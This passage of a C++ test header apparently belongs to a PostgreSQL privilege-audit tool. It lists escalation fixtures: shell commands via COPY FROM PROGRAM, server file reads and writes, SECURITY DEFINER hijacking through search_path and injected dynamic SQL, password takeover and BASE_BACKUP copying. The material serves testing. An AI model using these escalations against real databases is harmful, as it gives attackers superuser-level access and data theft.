#pragma once
// What is done to climb, for tests on a server (tests/live/escalations.test.cpp) and for those that
// replay the scripts (steps.test.cpp). {r} stands for a prefix of an attack's roles, {db} for its
// database, {super} for the bootstrap superuser, {data} for the data directory, {folder} for the
// socket's, {where} for host and port, {os} for who runs the test. An attack gains when `gained` is
// printed, or when `shell` ends well.

#include <array>
#include <string>
#include <string_view>

#include "escalation/escalation.hpp"
#include "pg/version.hpp"

namespace pgleast::test {

struct Attack {
  std::string_view id;
  int since;
  int until = newest_major;
  const char* extension = nullptr;  // that the build must have
  bool certain = true;
  const char* hba = nullptr;          // lines before all others
  const char* hba_without = nullptr;  // the same where the precondition is missing
  const char* ident = nullptr;        // of pg_ident.conf
  const char* ident_without = nullptr;
  const char* setup;      // by the superuser
  const char* without;    // the same world without the precondition
  const char* to;         // role or power
  const char* does = "";  // by {r}app
  const char* victim_is = nullptr;
  const char* victim = nullptr;   // what somebody stronger does then
  const char* then = nullptr;     // by {r}app again
  const char* shell = nullptr;    // by whoever runs the test
  const char* hash_of = nullptr;  // a role: the attack prints its md5 password and logs in by it
  const char* reset = nullptr;    // by the superuser, what the attack left
};

inline constexpr std::array<Attack, 99> attacks{
    {
        {.id = "ESC-SUPER",
         .since = 12,
         .setup = "CREATE ROLE {r}app LOGIN SUPERUSER;",
         .without = R"x(CREATE ROLE {r}app LOGIN;
)x",
         .to = "superuser",
         .does = "SELECT 'gained' FROM pg_authid LIMIT 1;"},
        {.id = "ESC-SET",
         .since = 12,
         .setup = R"x(CREATE ROLE {r}app LOGIN;
ALTER ROLE {r}app NOINHERIT; CREATE ROLE {r}boss; GRANT {r}boss TO {r}app;)x",
         .without = R"x(CREATE ROLE {r}app LOGIN;
CREATE ROLE {r}boss;)x",
         .to = "{r}boss",
         .does = R"x(SET ROLE {r}boss;
SELECT 'gained' WHERE current_user = '{r}boss';)x"},
        {.id = "ESC-SET",
         .since = 16,
         .setup = R"x(CREATE ROLE {r}app LOGIN;
CREATE ROLE {r}boss; GRANT {r}boss TO {r}app WITH INHERIT FALSE, SET TRUE;)x",
         .without = R"x(CREATE ROLE {r}app LOGIN;
CREATE ROLE {r}boss; GRANT {r}boss TO {r}app WITH INHERIT TRUE, SET FALSE;)x",
         .to = "{r}boss",
         .does = R"x(SET ROLE {r}boss;
SELECT 'gained' WHERE current_user = '{r}boss';)x"},
        {.id = "ESC-ADMIN",
         .since = 12,
         .until = 15,
         .setup = R"x(CREATE ROLE {r}app LOGIN;
CREATE ROLE {r}boss; CREATE ROLE {r}friend; GRANT {r}boss TO {r}app WITH ADMIN OPTION;)x",
         .without = R"x(CREATE ROLE {r}app LOGIN;
CREATE ROLE {r}boss; CREATE ROLE {r}friend; GRANT {r}boss TO {r}app;)x",
         .to = "{r}boss",
         .does = R"x(BEGIN; GRANT {r}boss TO {r}friend;
SELECT 'gained' WHERE pg_has_role('{r}friend', '{r}boss', 'MEMBER');
ROLLBACK;)x"},
        {.id = "ESC-ADMIN",
         .since = 16,
         .setup = R"x(CREATE ROLE {r}app LOGIN;
CREATE ROLE {r}boss; GRANT {r}boss TO {r}app WITH ADMIN TRUE, INHERIT FALSE, SET FALSE;)x",
         .without = R"x(CREATE ROLE {r}app LOGIN;
CREATE ROLE {r}boss; GRANT {r}boss TO {r}app WITH ADMIN FALSE, INHERIT FALSE, SET FALSE;)x",
         .to = "{r}boss",
         .does = R"x(BEGIN; GRANT {r}boss TO {r}app WITH SET TRUE;
SET ROLE {r}boss;
SELECT 'gained' WHERE current_user = '{r}boss';
ROLLBACK;)x"},
        {.id = "ESC-ADMIN",
         .since = 16,
         .setup = R"x(CREATE ROLE {r}app LOGIN;
CREATE ROLE {r}staff; CREATE ROLE {r}boss; GRANT {r}boss TO {r}staff WITH ADMIN TRUE, INHERIT FALSE, SET FALSE; GRANT {r}staff TO {r}app WITH INHERIT TRUE, SET FALSE;)x",
         .without = R"x(CREATE ROLE {r}app LOGIN;
CREATE ROLE {r}staff; CREATE ROLE {r}boss; GRANT {r}boss TO {r}staff WITH ADMIN TRUE, INHERIT FALSE, SET FALSE; GRANT {r}staff TO {r}app WITH INHERIT FALSE, SET FALSE;)x",
         .to = "{r}boss",
         .does = R"x(BEGIN; GRANT {r}boss TO {r}app WITH SET TRUE;
SET ROLE {r}boss;
SELECT 'gained' WHERE current_user = '{r}boss';
ROLLBACK;)x"},
        {.id = "ESC-CREATEROLE",
         .since = 12,
         .until = 15,
         .setup = "CREATE ROLE {r}app LOGIN CREATEROLE;",
         .without = R"x(CREATE ROLE {r}app LOGIN;
)x",
         .to = "any role that is no superuser",
         .does =
             R"x(CREATE TEMPORARY TABLE said (a text); BEGIN; GRANT pg_execute_server_program TO {r}app;
COPY said FROM PROGRAM 'echo gained';
TABLE said;
ROLLBACK;)x"},
        {.id = "ESC-EXECPROG",
         .since = 12,
         .setup = R"x(CREATE ROLE {r}app LOGIN;
CREATE ROLE {r}a; CREATE ROLE {r}b; GRANT {r}a, {r}b TO {r}app; GRANT pg_execute_server_program TO {r}app, {r}a, {r}b;)x",
         .without = R"x(CREATE ROLE {r}app LOGIN;
GRANT pg_write_server_files TO {r}app;)x",
         .to = "the server's operating-system user",
         .does = R"x(CREATE TEMPORARY TABLE said (a text);
COPY said FROM PROGRAM 'echo gained';
TABLE said;)x"},
        {.id = "ESC-WRITEFILE",
         .since = 12,
         .setup = R"x(CREATE ROLE {r}app LOGIN;
GRANT pg_write_server_files TO {r}app;)x",
         .without = R"x(CREATE ROLE {r}app LOGIN;
GRANT pg_read_server_files TO {r}app;)x",
         .to = "the files of the server's operating-system user, to write",
         .does = "COPY (SELECT 1) TO '{data}/{db}.written';",
         .shell = "test -e {data}/{db}.written && rm {data}/{db}.written"},
        {.id = "ESC-READFILE",
         .since = 12,
         .setup = R"x(CREATE ROLE {r}app LOGIN;
GRANT pg_read_server_files TO {r}app;)x",
         .without = R"x(CREATE ROLE {r}app LOGIN;
GRANT pg_write_server_files TO {r}app;)x",
         .to = "the files of the server's operating-system user, to read",
         .does = R"x(CREATE TEMPORARY TABLE said (a text);
COPY said FROM '{data}/PG_VERSION';
SELECT 'gained' FROM said;)x"},
        {.id = "ESC-FILEFUNC",
         .since = 12,
         .setup = R"x(CREATE ROLE {r}app LOGIN;
GRANT EXECUTE ON FUNCTION pg_read_file(text) TO {r}app;)x",
         .without = R"x(CREATE ROLE {r}app LOGIN;
GRANT EXECUTE ON FUNCTION pg_ls_dir(text) TO {r}app;)x",
         .to = "the files of the server's operating-system user, to read",
         .does = "SELECT 'gained' FROM pg_read_file('PG_VERSION');"},
        {.id = "ESC-FILEFUNC",
         .since = 12,
         .setup = R"x(CREATE ROLE {r}app LOGIN;
GRANT EXECUTE ON FUNCTION lo_export(oid, text) TO {r}app;)x",
         .without = R"x(CREATE ROLE {r}app LOGIN;
)x",
         .to = "the files of the server's operating-system user, to write",
         .does = R"x(SELECT lo_from_bytea(0, 'x') AS written \gset
SELECT lo_export(:written, '{data}/{db}.written');)x",
         .shell = "test -e {data}/{db}.written && rm {data}/{db}.written"},
        {.id = "ESC-FILEFUNC",
         .since = 16,
         .extension = "pg_walinspect",
         .setup = R"x(CREATE ROLE {r}app LOGIN;
CREATE SCHEMA w; CREATE EXTENSION pg_walinspect SCHEMA w; GRANT USAGE ON SCHEMA w TO {r}app;
CREATE TABLE public.secret (a text); GRANT EXECUTE ON FUNCTION w.pg_get_wal_block_info TO {r}app;)x",
         .without = R"x(CREATE ROLE {r}app LOGIN;
CREATE SCHEMA w; CREATE EXTENSION pg_walinspect SCHEMA w; GRANT USAGE ON SCHEMA w TO {r}app;
CREATE TABLE public.secret (a text); GRANT EXECUTE ON FUNCTION w.pg_get_wal_stats TO {r}app;)x",
         .to = "every change of the rows of a database",
         .does = R"x(SELECT pg_current_wal_lsn() AS before \gset
\connect - {super}
INSERT INTO public.secret VALUES ('treasure');
\connect - {r}app
SELECT DISTINCT 'gained' FROM w.pg_get_wal_block_info(:'before', pg_current_wal_lsn())
 WHERE encode(block_data, 'escape') LIKE '%treasure%';)x"},
        {.id = "ESC-BYPASSRLS",
         .since = 12,
         .setup = "CREATE ROLE {r}app LOGIN BYPASSRLS; CREATE TABLE public.t AS SELECT 1 AS a; "
                  "ALTER TABLE public.t ENABLE ROW LEVEL SECURITY; GRANT SELECT ON public.t TO "
                  "{r}app; GRANT USAGE ON SCHEMA public TO {r}app;",
         .without = R"x(CREATE ROLE {r}app LOGIN;
CREATE TABLE public.t AS SELECT 1 AS a; ALTER TABLE public.t ENABLE ROW LEVEL SECURITY; GRANT SELECT ON public.t TO {r}app; GRANT USAGE ON SCHEMA public TO {r}app;)x",
         .to = "rows that row security keeps from others",
         .does = "SELECT 'gained' FROM public.t;"},
        {.id = "ESC-READDATA",
         .since = 14,
         .setup = R"x(CREATE ROLE {r}app LOGIN;
GRANT pg_read_all_data TO {r}app;)x",
         .without = R"x(CREATE ROLE {r}app LOGIN;
GRANT pg_monitor TO {r}app;)x",
         .to = "all rows",
         .does = "SELECT 'gained' FROM pg_authid LIMIT 1;"},
        {.id = "ESC-WRITEDATA",
         .since = 14,
         .setup = R"x(CREATE ROLE {r}app LOGIN;
CREATE TABLE public.t (a int); GRANT pg_write_all_data TO {r}app;)x",
         .without = R"x(CREATE ROLE {r}app LOGIN;
CREATE TABLE public.t (a int); GRANT pg_read_all_data TO {r}app;)x",
         .to = "all rows, to change",
         .does = "INSERT INTO public.t VALUES (1) RETURNING 'gained';"},
        {.id = "ESC-LANGUAGE",
         .since = 12,
         .setup = R"x(CREATE ROLE {r}app LOGIN;
REVOKE ALL ON SCHEMA public FROM PUBLIC; GRANT USAGE ON SCHEMA public TO PUBLIC;
UPDATE pg_language SET lanpltrusted = true WHERE lanname = 'internal';)x",
         .without = R"x(CREATE ROLE {r}app LOGIN;
REVOKE ALL ON SCHEMA public FROM PUBLIC; GRANT USAGE ON SCHEMA public TO PUBLIC;
)x",
         .to = "the server's operating-system user",
         .does =
             R"x(CREATE FUNCTION pg_temp.put(oid, text) RETURNS int LANGUAGE internal AS 'be_lo_export';
SELECT lo_from_bytea(4711, 'x');
SELECT pg_temp.put(4711, '{data}/{db}.written');
SELECT lo_unlink(4711);)x",
         .shell = "test -e {data}/{db}.written && rm {data}/{db}.written"},
        {.id = "ESC-LARGEOBJECT",
         .since = 12,
         .setup = R"x(CREATE ROLE {r}app LOGIN;
SELECT lo_from_bytea(0, 'x');
ALTER SYSTEM SET lo_compat_privileges = on;
SELECT pg_reload_conf(), pg_sleep(0.3);)x",
         .without = R"x(CREATE ROLE {r}app LOGIN;
SELECT lo_from_bytea(0, 'x');)x",
         .to = "every large object",
         .does = "SELECT 'gained' FROM (SELECT lo_get(oid) FROM pg_largeobject_metadata) AS "
                 "all_of_them LIMIT 1;"},
        {.id = "ESC-CLOUDADMIN",
         .since = 12,
         .setup = R"x(CREATE ROLE {r}app LOGIN;
DO $$ BEGIN CREATE ROLE rds_superuser; EXCEPTION WHEN duplicate_object THEN NULL; END $$;
GRANT rds_superuser TO {r}app; CREATE TABLE public.t AS SELECT 1 AS a; GRANT SELECT ON public.t TO rds_superuser; GRANT USAGE ON SCHEMA public TO {r}app;)x",
         .without = R"x(CREATE ROLE {r}app LOGIN;
DO $$ BEGIN CREATE ROLE rds_superuser; EXCEPTION WHEN duplicate_object THEN NULL; END $$;
CREATE TABLE public.t AS SELECT 1 AS a; GRANT SELECT ON public.t TO rds_superuser; GRANT USAGE ON SCHEMA public TO {r}app;)x",
         .to = "what the cloud provider gives in place of superuser",
         .does = "SELECT 'gained' FROM public.t;"},
        {.id = "ESC-REPLICATION",
         .since = 12,
         .setup = "CREATE ROLE {r}app LOGIN REPLICATION;",
         .without = R"x(CREATE ROLE {r}app LOGIN;
)x",
         .to = "a copy of the whole cluster",
         .shell =
             R"x((psql -X -d '{where} user={r}app dbname=postgres replication=true' -c 'BASE_BACKUP FAST' || psql -X -d '{where} user={r}app dbname=postgres replication=true' -c "BASE_BACKUP (CHECKPOINT 'fast')") | grep -aq pg_hba.conf)x"},
        {.id = "ESC-REPLICATION",
         .since = 12,
         .hba_without = R"x(local all,replication {r}app reject
host all,replication {r}app all reject)x",
         .setup = "CREATE ROLE {r}app LOGIN REPLICATION;",
         .without = "CREATE ROLE {r}app LOGIN REPLICATION;",
         .to = "a copy of the whole cluster",
         .shell =
             R"x((psql -X -d '{where} user={r}app dbname=postgres replication=true' -c 'BASE_BACKUP FAST' || psql -X -d '{where} user={r}app dbname=postgres replication=true' -c "BASE_BACKUP (CHECKPOINT 'fast')") | grep -aq pg_hba.conf)x"},
        {.id = "ESC-REPLICATION",
         .since = 12,
         .hba = R"x(local replication {r}app reject
host replication {r}app all reject)x",
         .hba_without = R"x(local all,replication {r}app reject
host all,replication {r}app all reject)x",
         .setup = "CREATE ROLE {r}app LOGIN REPLICATION;",
         .without = "CREATE ROLE {r}app LOGIN REPLICATION;",
         .to = "a copy of the whole cluster",
         .shell =
             R"x((psql -X -d '{where} user={r}app dbname={db} replication=database' -c 'BASE_BACKUP FAST' || psql -X -d '{where} user={r}app dbname={db} replication=database' -c "BASE_BACKUP (CHECKPOINT 'fast')") | grep -aq pg_hba.conf)x"},
        {.id = "ESC-DECODE",
         .since = 12,
         .setup = "CREATE ROLE {r}app LOGIN REPLICATION; CREATE TABLE public.t (a text);",
         .without = R"x(CREATE ROLE {r}app LOGIN;
CREATE TABLE public.t (a text);)x",
         .to = "every change of the rows of a database",
         .does = R"x(SELECT pg_create_logical_replication_slot('{db}', 'test_decoding', true);
\! psql -X -q -d '{where} user={super} dbname={db}' -c "INSERT INTO public.t VALUES ('gained')"
SELECT data FROM pg_logical_slot_get_changes('{db}', NULL, NULL);)x"},
        {.id = "ESC-PASSWORD",
         .since = 16,
         .hba = "local {db} {r}boss scram-sha-256",
         .hba_without = "local {db} {r}boss scram-sha-256",
         .setup = "CREATE ROLE {r}app LOGIN CREATEROLE; CREATE ROLE {r}boss LOGIN REPLICATION; "
                  "GRANT {r}boss TO {r}app WITH ADMIN TRUE, INHERIT FALSE, SET FALSE;",
         .without = "CREATE ROLE {r}app LOGIN CREATEROLE; CREATE ROLE {r}boss LOGIN REPLICATION;",
         .to = "{r}boss",
         .does = "ALTER ROLE {r}boss PASSWORD 'chosen';",
         .shell = "PGPASSWORD=chosen psql -X -d '{where} user={r}boss dbname={db}' -c 'SELECT 1'",
         .reset = "ALTER ROLE {r}boss PASSWORD NULL;"},
        {.id = "ESC-OWNER",
         .since = 16,
         .setup = R"x(CREATE ROLE {r}app LOGIN;
CREATE ROLE {r}boss; CREATE SCHEMA s AUTHORIZATION {r}boss; CREATE FUNCTION s.f() RETURNS text LANGUAGE sql AS 'SELECT 1::text'; ALTER FUNCTION s.f() OWNER TO {r}boss; GRANT {r}boss TO {r}app WITH INHERIT TRUE, SET FALSE;)x",
         .without = R"x(CREATE ROLE {r}app LOGIN;
CREATE ROLE {r}boss; CREATE SCHEMA s AUTHORIZATION {r}boss; CREATE FUNCTION s.f() RETURNS text LANGUAGE sql AS 'SELECT 1::text'; ALTER FUNCTION s.f() OWNER TO {r}boss; GRANT {r}boss TO {r}app WITH INHERIT FALSE, SET FALSE;)x",
         .to = "{r}boss",
         .does =
             R"x(BEGIN; CREATE OR REPLACE FUNCTION s.f() RETURNS text LANGUAGE sql SECURITY DEFINER AS 'SELECT current_user::text';
SELECT 'gained' WHERE s.f() = '{r}boss';
ROLLBACK;)x"},
        {.id = "ESC-SECDEF",
         .since = 12,
         .setup = R"x(CREATE ROLE {r}app LOGIN;
CREATE ROLE {r}boss; REVOKE ALL ON SCHEMA public FROM PUBLIC; GRANT USAGE ON SCHEMA public TO PUBLIC;
CREATE SCHEMA s AUTHORIZATION {r}app; GRANT USAGE ON SCHEMA s TO PUBLIC;
CREATE SCHEMA safe; GRANT USAGE ON SCHEMA safe TO PUBLIC;
CREATE FUNCTION safe.vip() RETURNS text LANGUAGE sql SECURITY DEFINER AS $$ SELECT lower('X'::varchar) $$; ALTER FUNCTION safe.vip() OWNER TO {r}boss;
)x",
         .without = R"x(CREATE ROLE {r}app LOGIN;
CREATE ROLE {r}boss; REVOKE ALL ON SCHEMA public FROM PUBLIC; GRANT USAGE ON SCHEMA public TO PUBLIC;
CREATE SCHEMA s AUTHORIZATION {r}app; GRANT USAGE ON SCHEMA s TO PUBLIC;
CREATE SCHEMA safe; GRANT USAGE ON SCHEMA safe TO PUBLIC;
CREATE FUNCTION safe.vip() RETURNS text SET search_path = pg_catalog, pg_temp LANGUAGE sql SECURITY DEFINER AS $$ SELECT lower('X'::varchar) $$; ALTER FUNCTION safe.vip() OWNER TO {r}boss;
)x",
         .to = "{r}boss",
         .does =
             R"x(BEGIN; CREATE FUNCTION s.lower(varchar) RETURNS text LANGUAGE sql AS 'SELECT current_user::text';
SET LOCAL search_path = s, pg_catalog;
SELECT 'gained' WHERE safe.vip() = '{r}boss';
ROLLBACK;)x"},
        {.id = "ESC-SECDEF",
         .since = 12,
         .setup = R"x(CREATE ROLE {r}app LOGIN;
CREATE ROLE {r}boss; REVOKE ALL ON SCHEMA public FROM PUBLIC; GRANT USAGE ON SCHEMA public TO PUBLIC;
CREATE SCHEMA s AUTHORIZATION {r}app; GRANT USAGE ON SCHEMA s TO PUBLIC;
CREATE SCHEMA safe; GRANT USAGE ON SCHEMA safe TO PUBLIC;
CREATE FUNCTION safe.vip() RETURNS text SET search_path = s, pg_catalog, pg_temp LANGUAGE sql SECURITY DEFINER AS $$ SELECT lower('X'::varchar) $$; ALTER FUNCTION safe.vip() OWNER TO {r}boss;
)x",
         .without = R"x(CREATE ROLE {r}app LOGIN;
CREATE ROLE {r}boss; REVOKE ALL ON SCHEMA public FROM PUBLIC; GRANT USAGE ON SCHEMA public TO PUBLIC;
CREATE SCHEMA s AUTHORIZATION {r}app; GRANT USAGE ON SCHEMA s TO PUBLIC;
CREATE SCHEMA safe; GRANT USAGE ON SCHEMA safe TO PUBLIC;
CREATE FUNCTION safe.vip() RETURNS text SET search_path = safe, pg_catalog, pg_temp LANGUAGE sql SECURITY DEFINER AS $$ SELECT lower('X'::varchar) $$; ALTER FUNCTION safe.vip() OWNER TO {r}boss;
)x",
         .to = "{r}boss",
         .does =
             R"x(BEGIN; CREATE FUNCTION s.lower(varchar) RETURNS text LANGUAGE sql AS 'SELECT current_user::text';
SET LOCAL search_path = s, pg_catalog;
SELECT 'gained' WHERE safe.vip() = '{r}boss';
ROLLBACK;)x"},
        {.id = "ESC-SECDEF",
         .since = 12,
         .setup = R"x(CREATE ROLE {r}app LOGIN;
CREATE ROLE {r}boss; REVOKE ALL ON SCHEMA public FROM PUBLIC; GRANT USAGE ON SCHEMA public TO PUBLIC;
CREATE SCHEMA safe; GRANT USAGE ON SCHEMA safe TO PUBLIC;
CREATE TABLE safe.rates (a text); GRANT SELECT ON safe.rates TO {r}boss; GRANT USAGE ON SCHEMA safe TO {r}boss;
SET search_path = safe; CREATE FUNCTION safe.vip() RETURNS text SET search_path = safe LANGUAGE sql SECURITY DEFINER AS $$ SELECT a FROM rates $$; ALTER FUNCTION safe.vip() OWNER TO {r}boss;
)x",
         .without = R"x(CREATE ROLE {r}app LOGIN;
CREATE ROLE {r}boss; REVOKE ALL ON SCHEMA public FROM PUBLIC; GRANT USAGE ON SCHEMA public TO PUBLIC;
CREATE SCHEMA safe; GRANT USAGE ON SCHEMA safe TO PUBLIC;
CREATE TABLE safe.rates (a text); GRANT SELECT ON safe.rates TO {r}boss; GRANT USAGE ON SCHEMA safe TO {r}boss;
SET search_path = safe; CREATE FUNCTION safe.vip() RETURNS text SET search_path = safe, pg_temp LANGUAGE sql SECURITY DEFINER AS $$ SELECT a FROM rates $$; ALTER FUNCTION safe.vip() OWNER TO {r}boss;
)x",
         .to = "{r}boss",
         .does =
             R"x(CREATE FUNCTION pg_temp.me() RETURNS text LANGUAGE sql AS 'SELECT current_user::text';
CREATE TEMPORARY VIEW rates AS SELECT pg_temp.me() AS a;
GRANT SELECT ON pg_temp.rates TO PUBLIC;
SELECT 'gained' WHERE safe.vip() = '{r}boss';)x"},
        {.id = "ESC-SECDEF",
         .since = 12,
         .setup = R"x(CREATE ROLE {r}app LOGIN;
CREATE ROLE {r}boss; REVOKE ALL ON SCHEMA public FROM PUBLIC; GRANT USAGE ON SCHEMA public TO PUBLIC;
CREATE SCHEMA safe; GRANT USAGE ON SCHEMA safe TO PUBLIC;
CREATE TABLE safe.rates (a text); GRANT SELECT ON safe.rates TO {r}boss; GRANT USAGE ON SCHEMA safe TO {r}boss;
CREATE FUNCTION safe.run(what text) RETURNS text LANGUAGE plpgsql SECURITY DEFINER SET search_path = pg_catalog, pg_temp AS $$ DECLARE r text; BEGIN EXECUTE 'SELECT ' || what INTO r; RETURN r; END $$; ALTER FUNCTION safe.run(text) OWNER TO {r}boss;)x",
         .without = R"x(CREATE ROLE {r}app LOGIN;
CREATE ROLE {r}boss; REVOKE ALL ON SCHEMA public FROM PUBLIC; GRANT USAGE ON SCHEMA public TO PUBLIC;
CREATE SCHEMA safe; GRANT USAGE ON SCHEMA safe TO PUBLIC;
CREATE TABLE safe.rates (a text); GRANT SELECT ON safe.rates TO {r}boss; GRANT USAGE ON SCHEMA safe TO {r}boss;
CREATE FUNCTION safe.run(what text) RETURNS text LANGUAGE plpgsql SECURITY DEFINER SET search_path = pg_catalog, pg_temp AS $$ BEGIN RETURN pg_catalog.upper(what); END $$; ALTER FUNCTION safe.run(text) OWNER TO {r}boss;)x",
         .to = "{r}boss",
         .does = "SELECT 'gained' WHERE safe.run('current_user') = '{r}boss';"},
        {.id = "ESC-SECDEF",
         .since = 12,
         .certain = false,
         .setup = R"x(CREATE ROLE {r}app LOGIN;
CREATE ROLE {r}boss; REVOKE ALL ON SCHEMA public FROM PUBLIC;
CREATE SCHEMA safe; GRANT USAGE ON SCHEMA safe TO PUBLIC;
CREATE SCHEMA s AUTHORIZATION {r}app; GRANT USAGE ON SCHEMA s TO {r}boss;
CREATE FUNCTION safe.f("X" anyelement) RETURNS text LANGUAGE plpgsql SECURITY DEFINER
SET search_path = pg_catalog, pg_temp AS $$ BEGIN "X" := 'y'; RETURN 'done'; END $$;
ALTER FUNCTION safe.f(anyelement) OWNER TO {r}boss;)x",
         .without = R"x(CREATE ROLE {r}app LOGIN;
CREATE ROLE {r}boss; REVOKE ALL ON SCHEMA public FROM PUBLIC;
CREATE SCHEMA safe; GRANT USAGE ON SCHEMA safe TO PUBLIC;
CREATE SCHEMA s AUTHORIZATION {r}app; GRANT USAGE ON SCHEMA s TO {r}boss;
CREATE FUNCTION safe.f("X" anyelement) RETURNS text LANGUAGE plpgsql SECURITY DEFINER
SET search_path = pg_catalog, pg_temp AS $$ BEGIN IF "X" IS NULL THEN RETURN 'none'; END IF; RETURN 'some'; END $$;
ALTER FUNCTION safe.f(anyelement) OWNER TO {r}boss;)x",
         .to = "{r}boss",
         .does = R"x(BEGIN;
CREATE FUNCTION s.c() RETURNS bool LANGUAGE plpgsql AS $$ BEGIN
IF current_user = '{r}boss' THEN RAISE NOTICE 'gained'; END IF; RETURN true; END $$;
CREATE DOMAIN s.d AS text CHECK (s.c());
SELECT safe.f(NULL::s.d);
ROLLBACK;)x"},
        {.id = "ESC-SECDEF",
         .since = 12,
         .certain = false,
         .setup = R"x(CREATE ROLE {r}app LOGIN;
CREATE ROLE {r}boss; REVOKE ALL ON SCHEMA public FROM PUBLIC; GRANT USAGE ON SCHEMA public TO PUBLIC;
CREATE SCHEMA safe; GRANT USAGE ON SCHEMA safe TO PUBLIC;
CREATE SCHEMA s AUTHORIZATION {r}app; GRANT USAGE ON SCHEMA s TO {r}boss;
CREATE FUNCTION safe.f(x anyelement) RETURNS text LANGUAGE plpgsql SECURITY DEFINER SET search_path = pg_catalog, pg_temp AS $$ BEGIN RETURN x::text; END $$; ALTER FUNCTION safe.f(anyelement) OWNER TO {r}boss;)x",
         .without = R"x(CREATE ROLE {r}app LOGIN;
CREATE ROLE {r}boss; REVOKE ALL ON SCHEMA public FROM PUBLIC; GRANT USAGE ON SCHEMA public TO PUBLIC;
CREATE SCHEMA safe; GRANT USAGE ON SCHEMA safe TO PUBLIC;
CREATE SCHEMA s AUTHORIZATION {r}app; GRANT USAGE ON SCHEMA s TO {r}boss;
CREATE FUNCTION safe.f(x anyelement) RETURNS text LANGUAGE plpgsql SECURITY DEFINER SET search_path = pg_catalog, pg_temp AS $$ BEGIN IF x IS NULL THEN RETURN 'none'; END IF; RETURN 'some'; END $$; ALTER FUNCTION safe.f(anyelement) OWNER TO {r}boss;)x",
         .to = "{r}boss",
         .does = R"x(BEGIN; CREATE TYPE s.t AS (a int);
CREATE FUNCTION s.tt(s.t) RETURNS text LANGUAGE plpgsql AS $$ BEGIN IF current_user = '{r}boss' THEN RAISE NOTICE 'gained'; END IF; RETURN '1'; END $$;
CREATE CAST (s.t AS text) WITH FUNCTION s.tt(s.t) AS ASSIGNMENT;
SELECT safe.f(ROW(1)::s.t);
ROLLBACK;)x"},
        {.id = "ESC-SECDEF",
         .since = 12,
         .certain = false,
         .setup = R"x(CREATE ROLE {r}app LOGIN;
CREATE ROLE {r}boss; REVOKE ALL ON SCHEMA public FROM PUBLIC; GRANT USAGE ON SCHEMA public TO PUBLIC;
CREATE SCHEMA safe; GRANT USAGE ON SCHEMA safe TO PUBLIC;
CREATE SCHEMA s AUTHORIZATION {r}app; GRANT USAGE ON SCHEMA s TO {r}boss;
CREATE FUNCTION safe.f(x anyelement) RETURNS text LANGUAGE plpgsql SECURITY DEFINER SET search_path = pg_catalog, pg_temp AS $$ BEGIN RETURN x; END $$; ALTER FUNCTION safe.f(anyelement) OWNER TO {r}boss;)x",
         .without = R"x(CREATE ROLE {r}app LOGIN;
CREATE ROLE {r}boss; REVOKE ALL ON SCHEMA public FROM PUBLIC; GRANT USAGE ON SCHEMA public TO PUBLIC;
CREATE SCHEMA safe; GRANT USAGE ON SCHEMA safe TO PUBLIC;
CREATE SCHEMA s AUTHORIZATION {r}app; GRANT USAGE ON SCHEMA s TO {r}boss;
CREATE FUNCTION safe.f(x anyelement) RETURNS text LANGUAGE plpgsql SECURITY DEFINER SET search_path = pg_catalog, pg_temp AS $$ BEGIN IF x IS NULL THEN RETURN 'none'; END IF; RETURN 'some'; END $$; ALTER FUNCTION safe.f(anyelement) OWNER TO {r}boss;)x",
         .to = "{r}boss",
         .does = R"x(BEGIN; CREATE TYPE s.t AS (a int);
CREATE FUNCTION s.tt(s.t) RETURNS text LANGUAGE plpgsql AS $$ BEGIN IF current_user = '{r}boss' THEN RAISE NOTICE 'gained'; END IF; RETURN '1'; END $$;
CREATE CAST (s.t AS text) WITH FUNCTION s.tt(s.t) AS ASSIGNMENT;
SELECT safe.f(ROW(1)::s.t);
ROLLBACK;)x"},
        {.id = "ESC-SECDEF",
         .since = 12,
         .certain = false,
         .setup = R"x(CREATE ROLE {r}app LOGIN;
CREATE ROLE {r}boss; REVOKE ALL ON SCHEMA public FROM PUBLIC; GRANT USAGE ON SCHEMA public TO PUBLIC;
CREATE SCHEMA safe; GRANT USAGE ON SCHEMA safe TO PUBLIC;
CREATE SCHEMA s AUTHORIZATION {r}app; GRANT USAGE ON SCHEMA s TO {r}boss;
CREATE FUNCTION safe.f(x anyelement) RETURNS text LANGUAGE plpgsql SECURITY DEFINER SET search_path = pg_catalog, pg_temp AS $$ DECLARE y ALIAS FOR $1; BEGIN RETURN y::text; END $$; ALTER FUNCTION safe.f(anyelement) OWNER TO {r}boss;)x",
         .without = R"x(CREATE ROLE {r}app LOGIN;
CREATE ROLE {r}boss; REVOKE ALL ON SCHEMA public FROM PUBLIC; GRANT USAGE ON SCHEMA public TO PUBLIC;
CREATE SCHEMA safe; GRANT USAGE ON SCHEMA safe TO PUBLIC;
CREATE SCHEMA s AUTHORIZATION {r}app; GRANT USAGE ON SCHEMA s TO {r}boss;
CREATE FUNCTION safe.f(x anyelement) RETURNS text LANGUAGE plpgsql SECURITY DEFINER SET search_path = pg_catalog, pg_temp AS $$ BEGIN IF x IS NULL THEN RETURN 'none'; END IF; RETURN 'some'; END $$; ALTER FUNCTION safe.f(anyelement) OWNER TO {r}boss;)x",
         .to = "{r}boss",
         .does = R"x(BEGIN; CREATE TYPE s.t AS (a int);
CREATE FUNCTION s.tt(s.t) RETURNS text LANGUAGE plpgsql AS $$ BEGIN IF current_user = '{r}boss' THEN RAISE NOTICE 'gained'; END IF; RETURN '1'; END $$;
CREATE CAST (s.t AS text) WITH FUNCTION s.tt(s.t) AS ASSIGNMENT;
SELECT safe.f(ROW(1)::s.t);
ROLLBACK;)x"},
        {.id = "ESC-SECDEF",
         .since = 12,
         .certain = false,
         .setup = R"x(CREATE ROLE {r}app LOGIN;
CREATE ROLE {r}boss; REVOKE ALL ON SCHEMA public FROM PUBLIC; GRANT USAGE ON SCHEMA public TO PUBLIC;
CREATE SCHEMA safe; GRANT USAGE ON SCHEMA safe TO PUBLIC;
CREATE SCHEMA s AUTHORIZATION {r}app; GRANT USAGE ON SCHEMA s TO {r}boss;
CREATE FUNCTION safe.f(x record) RETURNS json LANGUAGE plpgsql SECURITY DEFINER SET search_path = pg_catalog, pg_temp AS $$ BEGIN RETURN row_to_json(x); END $$; ALTER FUNCTION safe.f(record) OWNER TO {r}boss;)x",
         .without = R"x(CREATE ROLE {r}app LOGIN;
CREATE ROLE {r}boss; REVOKE ALL ON SCHEMA public FROM PUBLIC; GRANT USAGE ON SCHEMA public TO PUBLIC;
CREATE SCHEMA safe; GRANT USAGE ON SCHEMA safe TO PUBLIC;
CREATE SCHEMA s AUTHORIZATION {r}app; GRANT USAGE ON SCHEMA s TO {r}boss;
